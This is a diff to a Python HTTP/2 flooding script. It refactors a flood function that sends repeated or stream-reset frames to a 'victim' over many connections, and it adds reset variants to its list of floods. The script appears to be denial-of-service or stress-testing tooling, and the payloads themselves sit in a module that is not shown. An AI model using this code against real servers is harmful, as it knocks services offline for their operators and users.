@@ -178,17 +178,11 @@ def flood(victim, name, who, stop):
             http2.greet(connection)
             if who:
                 http2.first_call(connection)
-            if name == "resets":
-                make, stream = http2.resets(), 5
-                first, again = b"", b""
-            else:
-                first, again = http2.REPEATED[name]()
-            connection.sendall(first)
-            while not stop.is_set():
-                if name == "resets":
-                    again, stream = make(stream), stream + 200
-                connection.sendall(again)
-                sent += len(again)
+            for piece in http2.flood(name):
+                if stop.is_set():
+                    break
+                connection.sendall(piece)
+                sent += len(piece)
         stop.wait(0.01)
     return sent
 
@@ -222,4 +216,4 @@ def crowd(victim, count, handshake=False):
     return stack, refused
 
 
-FLOODS = [*http2.REPEATED, "resets"]
+FLOODS = [*http2.REPEATED, *http2.RESETS]
